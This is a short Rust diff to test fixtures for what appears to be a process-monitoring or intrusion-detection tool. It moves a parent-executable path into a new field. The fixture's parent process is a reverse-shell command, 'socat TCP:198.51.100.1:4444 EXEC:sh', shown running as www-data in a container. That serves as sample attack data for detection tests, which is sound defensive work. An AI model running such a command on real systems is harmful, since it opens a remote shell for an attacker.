@@ -49,11 +49,8 @@ fn args(words: &[&str]) -> Args {
 }
 
 fn extras() -> Extras {
-    let parent = ParentProgram {
-        executable: Some(b"/usr/bin/socat1".to_vec()),
-        args: args(&["socat", "TCP:198.51.100.1:4444", "EXEC:sh"]),
-        source: ParentSource::Exec,
-    };
+    let parent =
+        ParentProgram { args: args(&["socat", "TCP:198.51.100.1:4444", "EXEC:sh"]), source: ParentSource::Exec };
     Extras { user: Some("www-data".to_owned()), container: Some("c".repeat(64)), parent: Some(parent) }
 }
 
@@ -91,6 +88,7 @@ fn exec(words: &[&str], extras: &Extras) -> Value {
         executable: executable("/usr/bin/bash"),
         args: args(words),
         lineage: lineage(),
+        parent_executable: executable("/usr/bin/socat1"),
         reason: Reason::Armed,
         connection: None,
     };
